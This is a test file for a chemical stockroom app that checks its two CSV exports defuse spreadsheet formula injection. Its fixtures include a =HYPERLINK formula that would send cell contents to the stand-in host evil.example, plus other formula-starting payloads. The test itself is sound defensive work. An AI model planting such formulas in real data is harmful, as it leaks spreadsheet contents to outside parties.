/**
 * The Stockroom's two CSV exports, written by the shared CSV writer, against hostile text: names,
 * synonyms, storage groups, locations, suppliers, lots and hold reasons that a spreadsheet would
 * run as formulas. No cell of either file may start a formula; numbers stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import Papa from "papaparse";
import { startTestApp, type TestApp } from "../support/test-app";
import { ApiClient } from "../support/http-client";
import { makeUser, TEST_PASSWORD } from "../support/factories";

const LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Safety data sheet")';
const FORMULA_START = /^[=+\-@\t\r]/;

let t: TestApp;
let keeper: ApiClient;
let member: ApiClient;
let chemicalId: number;
let tabChemicalId: number;
let containerId: number;

function table(text: string): Record<string, string>[] {
  const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

function noFormulaStarts(rows: Record<string, string>[]): void {
  for (const row of rows) for (const [column, cell] of Object.entries(row)) expect(cell, `${column} = ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
}

beforeAll(async () => {
  t = await startTestApp();
  const safety = await makeUser(t.ds, { roles: ["safety_officer"] });
  keeper = new ApiClient(t.url);
  await keeper.login(safety.email, TEST_PASSWORD);
  const m = await makeUser(t.ds, { roles: ["member"] });
  member = new ApiClient(t.url);
  await member.login(m.email, TEST_PASSWORD);

  const chem = await keeper.post("/api/chemicals", {
    name: LINK,
    casNumber: "7447-41-8",
    formula: "LiCl",
    synonyms: ["+1 lithium salt", "-2 grade"],
    storageGroup: "@SUM(A1:A9)",
    unitCostCents: 1250,
    costUnit: "g",
  });
  expect(chem.status, chem.text).toBe(201);
  chemicalId = chem.body.chemical.id;
  const plain = await keeper.post("/api/chemicals", { name: "Tetrabutylammonium chloride", casNumber: "1112-67-0" });
  expect(plain.status, plain.text).toBe(201);
  tabChemicalId = plain.body.chemical.id;
  // The forms trim leading white space; records imported from elsewhere may still carry a tab or a carriage return.
  await t.ds.query(`UPDATE chemicals SET name = ? WHERE id = ?`, ["\t=1+1", tabChemicalId]);

  const room = await keeper.post("/api/locations", { level: "room", name: "-2 basement store" });
  expect(room.status, room.text).toBe(201);
  const received = await keeper.post("/api/containers/receive", {
    chemicalId,
    count: 1,
    quantity: 100,
    unit: "g",
    supplier: "+1 Supplies",
    lot: "@lot-7",
    priceCents: 4599,
    locationId: room.body.location.id,
  });
  expect(received.status, received.text).toBe(201);
  containerId = received.body.containers[0].id;
  const held = await keeper.post(`/api/containers/${containerId}/hold`, { reason: LINK });
  expect(held.status, held.text).toBe(200);
  await keeper.post("/api/containers/receive", { chemicalId: tabChemicalId, count: 1, quantity: 25, unit: "g", lot: "\r=2+2" });
  await t.ds.query(`UPDATE containers SET lot = ? WHERE chemicalId = ?`, ["\r=2+2", tabChemicalId]);
});
afterAll(async () => {
  await t.close();
});

describe("GET /api/chemicals/export.csv", () => {
  it("starts no formula in any cell: hostile names, synonyms and storage groups are prefixed with '", async () => {
    const r = await member.get("/api/chemicals/export.csv");
    expect(r.status).toBe(200);
    expect(r.headers.get("content-type")).toContain("text/csv");
    const rows = table(r.text);
    noFormulaStarts(rows);
    const link = rows.find((row) => row.id === String(chemicalId))!;
    expect(link.name).toBe(`'${LINK}`);
    expect(link.synonyms).toBe("'+1 lithium salt; -2 grade");
    expect(link.storageGroup).toBe("'@SUM(A1:A9)");
    expect(rows.find((row) => row.id === String(tabChemicalId))!.name).toBe("'\t=1+1");
  });

  it("keeps numbers as numbers", async () => {
    const rows = table((await member.get("/api/chemicals/export.csv")).text);
    const link = rows.find((row) => row.id === String(chemicalId))!;
    expect(link.unitCostCents).toBe("1250");
    expect(Number(link.molarMass)).toBeCloseTo(42.39, 1);
  });
});

describe("GET /api/containers/export.csv", () => {
  it("starts no formula in any cell: suppliers, lots, locations and hold reasons are prefixed with '", async () => {
    const r = await member.get("/api/containers/export.csv");
    expect(r.status).toBe(200);
    expect(r.headers.get("content-type")).toContain("text/csv");
    const rows = table(r.text);
    expect(rows.length).toBeGreaterThanOrEqual(2);
    noFormulaStarts(rows);
    const held = rows.find((row) => row.id === String(containerId))!;
    expect(held.chemicalName).toBe(`'${LINK}`);
    expect(held.supplier).toBe("'+1 Supplies");
    expect(held.lot).toBe("'@lot-7");
    expect(held.location).toMatch(/^'-2 basement store/);
    expect(held.holdReason).toBe(`'${LINK}`);
    expect(rows.find((row) => row.chemicalName === "'\t=1+1")!.lot).toBe("'\r=2+2");
  });

  it("keeps quantities and prices as numbers", async () => {
    const rows = table((await member.get("/api/containers/export.csv")).text);
    const held = rows.find((row) => row.id === String(containerId))!;
    expect(held.quantity).toBe("100");
    expect(held.priceCents).toBe("4599");
  });
});
